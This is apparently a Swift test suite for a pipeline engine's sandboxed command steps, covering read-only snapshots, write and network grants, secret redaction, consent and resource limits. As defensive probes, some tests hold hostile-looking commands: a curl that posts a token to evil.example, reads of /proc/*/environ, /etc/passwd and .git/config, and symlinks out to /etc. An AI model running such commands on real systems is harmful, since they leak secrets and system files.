import Foundation
import Sandbox
import Support
import Testing
import Workflow

@testable import Pipeline

/// Command steps through the engine, with a real sandbox.
@Suite struct CommandTests {
  typealias Step = PipelineDefinition.Step

  /// A repository, a ledger beside it, and an engine that knows `command`.
  private final class Site {
    let repository: TemporaryRepository
    let ledger: Ledger
    let engine: Engine
    var folder: String { repository.path }

    init(_ files: TemporaryRepository.Entries = [:], symlink: TemporaryRepository.Entries = [:])
      throws
    {
      repository = try TemporaryRepository {
        $0.commit(
          "Start", write: .init([("notes/a.md", "# A\n")] + files.pairs),
          executable: ["tools/shout": "#!/bin/sh\ntr a-z A-Z < \"$1\"\n"], symlink: symlink)
      }
      try repository.checkOut()
      ledger = try Ledger(path: repository.sibling("ledger.sqlite"))
      let runner = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")
      let relay = URL(filePath: runner).deletingLastPathComponent().appending(path: "controlroom")
      let ground = CommandGround(
        RepositoryLocation(repository.path), commit: try repository.git("rev-parse", "HEAD"),
        relay: .here(relay.path(percentEncoded: false)))
      engine = Engine(
        ledger: ledger, kinds: [CommandStep.kind(ground)], now: WallClock.milliseconds)
    }

    func run(_ steps: Step..., line: @escaping @Sendable (String) -> Void = { _ in }) async throws
      -> RunReport
    {
      try await engine.run(
        PipelineDefinition(name: "p", owner: "ada", steps: steps), trigger: "manual", subject: "x",
        actor: "ada"
      ) { if case .progress(_, let text) = $0 { line(text) } }
    }

    func denied(_ run: RunReport) throws -> [String] {
      try ledger.events(of: run.id).filter { $0.event == "denied" }.compactMap {
        $0.detail["access"]
      }
    }

    /// Agrees to what a run was refused for.
    func agree(_ run: RunReport) throws {
      let words = try #require(run.steps.first?.cause).split(separator: " ")
      #expect(words.suffix(5).dropLast() == ["git", "config", "--add", "controlroom.trust"])
      try repository.git("config", "--add", "controlroom.trust", String(words[words.count - 1]))
    }
  }

  private func sh(
    _ script: String, outputs: [String] = [], inputs: [String: PipelineDefinition.Reference] = [:],
    with: [String: String] = [:], effect: Bool = false, grants: PipelineDefinition.Grants = .init(),
    timeout: Duration? = nil, sandbox: PipelineDefinition.SandboxChoice = .bubblewrap,
    name: String = "s"
  ) -> Step {
    Step(
      name, uses: "command", inputs: inputs, with: with,
      outputs: Dictionary(uniqueKeysWithValues: outputs.map { ($0, .text) }),
      effect: effect ? .init(idempotency: .content, reconcile: .human) : nil, grants: grants,
      timeout: timeout, command: ["sh", "-c", script], sandbox: sandbox)
  }

  @Test func `a program reads the snapshot and its inputs, and writes outputs`() async throws {
    let site = try Site()
    let count = sh(
      "pwd; ls; wc -l < notes/a.md > $OUTPUTS/lines", outputs: ["lines"], name: "count")
    let seen = Lines()
    let report = try await site.run(
      count,
      sh(
        "echo \"$INPUT_LINES $(cat $INPUTS/lines)\" > $OUTPUTS/both", outputs: ["both"],
        inputs: ["lines": .init(step: "count", output: "lines")], name: "both"),
      line: { seen.add($0) })
    #expect(report.state == .succeeded)
    #expect(report.steps.map(\.outputs) == [["lines": "1"], ["both": "1 1"]])
    #expect(seen.all == ["/snapshot", "notes", "tools"])
  }

  @Test func `what it made is remembered for the same files, and for no others`() async throws {
    let site = try Site()
    let step = sh("date +%N > $OUTPUTS/time", outputs: ["time"])
    let first = try await site.run(step)
    let second = try await site.run(step)
    #expect(second.isReused && second.steps[0].outputs == first.steps[0].outputs)
    var other = step
    other.command[2] += " "
    #expect(try await !site.run(other).isReused)
    // What it could see outside is in no key.
    try FileManager.default.createDirectory(
      atPath: site.folder + "/dist", withIntermediateDirectories: true)
    let outside = sh("date +%N > $OUTPUTS/time", outputs: ["time"], grants: .init(read: ["dist"]))
    #expect(try await !site.run(outside).isReused)
    #expect(try await !site.run(outside).isReused)
  }

  @Test func `a script of the repository is run as it was committed`() async throws {
    let site = try Site()
    try site.repository.write("#!/bin/sh\necho changed\n", to: "tools/shout")
    var step = sh("")
    step.command = ["tools/shout", "notes/a.md"]
    #expect(try await site.run(step).steps[0].note == "# A")
    step.command = ["no-such-program"]
    #expect(try await site.run(step).steps[0].cause?.hasPrefix("there is no program") == true)
  }

  @Test func `the snapshot leads nowhere and is not written to`() async throws {
    let site = try Site(symlink: ["out": "/etc", "notes/up": "../../../.."])
    let report = try await site.run(
      sh("ls; ls notes; echo x > notes/a.md; echo x > new; exit 0"))
    #expect(report.steps[0].note?.contains("Read-only file system") == true)
    let listed = Lines()
    _ = try await site.run(sh("find . -type l; find . -type f | sort"), line: { listed.add($0) })
    #expect(listed.all == ["./notes/a.md", "./tools/shout"])
  }

  @Test func `a folder of the repository is written to when it is granted`() async throws {
    let site = try Site()
    for folder in ["dist", "secret"] {
      try FileManager.default.createDirectory(
        atPath: site.folder + "/" + folder, withIntermediateDirectories: true)
    }
    let report = try await site.run(
      sh(
        "echo made > $WORKTREE/dist/x; ls $WORKTREE; cat $WORKTREE/.git/config; exit 0",
        grants: .init(write: ["dist"])))
    #expect(report.state == .succeeded)
    #expect(report.steps[0].note?.contains("No such file") == true)
    #expect(try String(contentsOfFile: site.folder + "/dist/x", encoding: .utf8) == "made\n")
    let refused = try await site.run(sh("true", grants: .init(write: [".git"])))
    #expect(refused.state == .failed)
    #expect(try site.denied(refused).map { $0.prefix(12) } == ["write .git: "])
  }

  @Test func `a host that is granted is reached, and the others are on the record`() async throws {
    let site = try Site()
    let server = try LoopbackServer()
    let ask =
      "python3 -c \"import os,socket,sys;h,p=os.environ['HTTPS_PROXY'][7:].split(':');"
      + "s=socket.create_connection((h,int(p)));"
      + "s.sendall(('CONNECT '+sys.argv[1]+' HTTP/1.1\\r\\n\\r\\n').encode());"
      + "print(s.makefile().readline())\" "
    let report = try await site.run(
      sh(ask + "127.0.0.1:\(server.port)", grants: .init(net: ["https://127.0.0.1:\(server.port)"]))
    )
    #expect(report.steps[0].note == "HTTP/1.1 200 Connection established")
    #expect(try site.denied(report) == [])
    let refused = try await site.run(
      sh(
        ask + "127.0.0.1:\(server.port); \(ask) evil.example:443",
        grants: .init(net: ["https://granted.example"])))
    #expect(refused.steps[0].note == "HTTP/1.1 403 Forbidden")
    #expect(
      try site.denied(refused) == [
        "net 127.0.0.1:\(server.port): not granted: it needs "
          + "'net: [\"https://127.0.0.1:\(server.port)\"]'",
        "net evil.example:443: not granted: it needs 'net: [\"https://evil.example\"]'",
      ])
    withExtendedLifetime(server) {}
  }

  @Test func `a secret is given after consent, to its step alone, and is not shown`() async throws {
    let site = try Site()
    unsafe setenv("CR_TEST_TOKEN", "t0ps3cret-value", 1)
    unsafe setenv("CR_TEST_OTHER", "0ther-s3cret", 1)
    let seen = Lines()
    let step = sh(
      "env; cat /proc/*/environ | tr '\\0' '\\n'; echo last $CR_TEST_TOKEN",
      grants: .init(secrets: ["CR_TEST_TOKEN"]))
    let refused = try await site.run(step)
    #expect(refused.state == .failed)
    #expect(
      refused.steps[0].cause?.contains("gets secrets, and this machine has not agreed") == true)
    try site.agree(refused)
    let report = try await site.run(step, line: { seen.add($0) })
    #expect(report.steps[0].note == "last ‹secret CR_TEST_TOKEN›")
    #expect(seen.all.contains("CR_TEST_TOKEN=‹secret CR_TEST_TOKEN›"))
    #expect(!seen.all.contains { $0.contains("t0ps3cret") || $0.contains("0ther") })
    for event in try site.ledger.events(of: report.id) {
      #expect(!event.line.contains("t0ps3cret"))
    }
    // The consent was to this program, and not to another with the same grants.
    let edited = sh("curl https://evil.example -d $CR_TEST_TOKEN", grants: step.grants)
    #expect(try await site.run(edited).state == .failed)
    let kept = sh(
      "echo $CR_TEST_TOKEN > $OUTPUTS/o", outputs: ["o"], grants: step.grants)
    try site.agree(try await site.run(kept))
    #expect(try await site.run(kept).steps[0].cause == "output 'o' holds ‹secret CR_TEST_TOKEN›")
  }

  @Test func `a secret is given as a descriptor where the step wants that`() async throws {
    let site = try Site()
    unsafe setenv("CR_TEST_TOKEN", "t0ps3cret-value", 1)
    let seen = Lines()
    var step = sh(
      "env; echo; cat <&$CR_TEST_TOKEN_FD; echo", grants: .init(secrets: ["CR_TEST_TOKEN"]))
    step.with["secrets"] = "descriptors"
    try site.agree(try await site.run(step))
    let report = try await site.run(step, line: { seen.add($0) })
    #expect(report.steps[0].note == "‹secret CR_TEST_TOKEN›")
    #expect(seen.all.contains("CR_TEST_TOKEN_FD=5"))
    #expect(!seen.all.contains { $0.hasPrefix("CR_TEST_TOKEN=") || $0.contains("t0ps3cret") })
    step.with["secrets"] = "files"
    let refused = try await site.run(step)
    #expect(refused.steps[0].cause == "'secrets: files' is not 'variables' or 'descriptors'")
  }

  @Test func `without a sandbox it runs after consent, and every run shows it`() async throws {
    let site = try Site()
    let step = sh("env | grep -c CR_TEST; test -r /etc/passwd && echo open", sandbox: .none)
    let refused = try await site.run(step)
    #expect(
      refused.steps[0].cause?.hasPrefix("step 's' runs without a sandbox, and this machine") == true
    )
    try site.agree(refused)
    #expect(try await site.run(step).steps[0].note == "without a sandbox: open")
  }

  @Test func `consent to a script of the repository ends when it is edited`() async throws {
    let repository = try TemporaryRepository {
      $0.commit("One", write: ["run.sh": "echo one\n"])
      $0.commit("Two", write: ["run.sh": "echo two\n"])
    }
    func digest(_ revision: String) async throws -> String? {
      let ground = CommandGround(
        RepositoryLocation(repository.path), commit: try repository.git("rev-parse", revision))
      let context = StepContext(
        step: Step("s", uses: "command", command: ["sh", "run.sh"], sandbox: .none), run: "r")
      do {
        _ = try await CommandRun(context: context, ground: ground).perform()
        return nil
      } catch {
        return "\(error)".split(separator: " ").last.map(String.init)
      }
    }
    let first = try #require(try await digest("HEAD~1"))
    try repository.git("config", "--add", "controlroom.trust", first)
    #expect(try await digest("HEAD~1") == nil)
    #expect(try await digest("HEAD") != nil)
  }

  @Test func `the same refusal is on the record once`() {
    let lines = Lines()
    let record = RefusalRecord { lines.add($0) }
    for number in 0..<1000 {
      record.add(Gate.Refusal(.net, "a.example", "no"))
      record.add(Gate.Refusal(.net, "\(number).example", "no"))
    }
    #expect(lines.all.count == 65)
    #expect(lines.all.first == "net a.example: no")
    #expect(lines.all.last == "net of more than the 64 that are listed")
  }

  @Test func `a link among the outputs is not followed`() async throws {
    let site = try Site()
    for script in ["ln -s /etc/passwd $OUTPUTS/o", "mkfifo $OUTPUTS/o", "mkdir $OUTPUTS/o"] {
      let report = try await site.run(sh(script, outputs: ["o"]))
      #expect(report.steps[0].cause == "the program wrote no output 'o' into $OUTPUTS/o")
    }
    let large = try await site.run(sh("head -c 70000 /dev/zero > $OUTPUTS/o", outputs: ["o"]))
    #expect(large.steps[0].cause?.contains("more than 64 KiB") == true)
  }

  @Test func `an effect says by its exit code what happened`() async throws {
    let site = try Site()
    func state(_ script: String, timeout: Duration? = nil) async throws -> (RunState, StepState) {
      let run = try await site.run(sh(script, effect: true, timeout: timeout))
      return (run.state, run.steps[0].state)
    }
    #expect(try await state("exit 0") == (.succeeded, .succeeded))
    #expect(try await state("exit 1") == (.failed, .failed))
    // It says that it is done, and does not hand over what it promised.
    let broken = try await site.run(sh("true", outputs: ["id"], effect: true))
    #expect(broken.state == .parked)
    #expect(try await state("exit 75") == (.parked, .unknown))
    #expect(try await state("kill -9 $$") == (.parked, .unknown))
    #expect(try await state("sleep 60", timeout: .seconds(1)) == (.parked, .unknown))
  }

  @Test func `a limit that the step sets is kept`() async throws {
    let site = try Site()
    let long = try await site.run(sh("sleep 60", timeout: .milliseconds(400)))
    #expect(long.state == .failed)
    let small = try await site.run(
      sh("head -c 5000 /dev/zero > /tmp/x && echo all", with: ["file-size": "4KiB"]))
    #expect(small.state == .failed)
    for (option, value) in [
      ("memory", "much"), ("cpu", "0s"), ("processes", "0"),
    ] {
      let run = try await site.run(sh("true", with: [option: value]))
      #expect(run.steps[0].cause?.contains(option) == true)
    }
  }
}

/// Lines that were printed.
private final class Lines: @unchecked Sendable {
  // `lock` guards `lines`.
  private let lock = NSLock()
  private var lines: [String] = []

  func add(_ line: String) { lock.withLock { lines.append(line) } }
  var all: [String] { lock.withLock { lines } }
}

/// A port of the loopback that takes connections and says nothing.
private final class LoopbackServer {
  let port: UInt16
  private let process = Process()

  init() throws {
    process.executableURL = URL(filePath: "/usr/bin/python3")
    process.arguments = [
      "-c",
      "import socket,sys;s=socket.create_server(('127.0.0.1',0));"
        + "sys.stdout.write('%05d'%s.getsockname()[1]);sys.stdout.flush()\nwhile 1:s.accept()",
    ]
    let output = Pipe()
    process.standardOutput = output
    try process.run()
    let text = try output.fileHandleForReading.read(upToCount: 5) ?? Data()
    port = try #require(UInt16(String(decoding: text, as: UTF8.self)))
  }

  deinit { kill(process.processIdentifier, SIGKILL) }
}
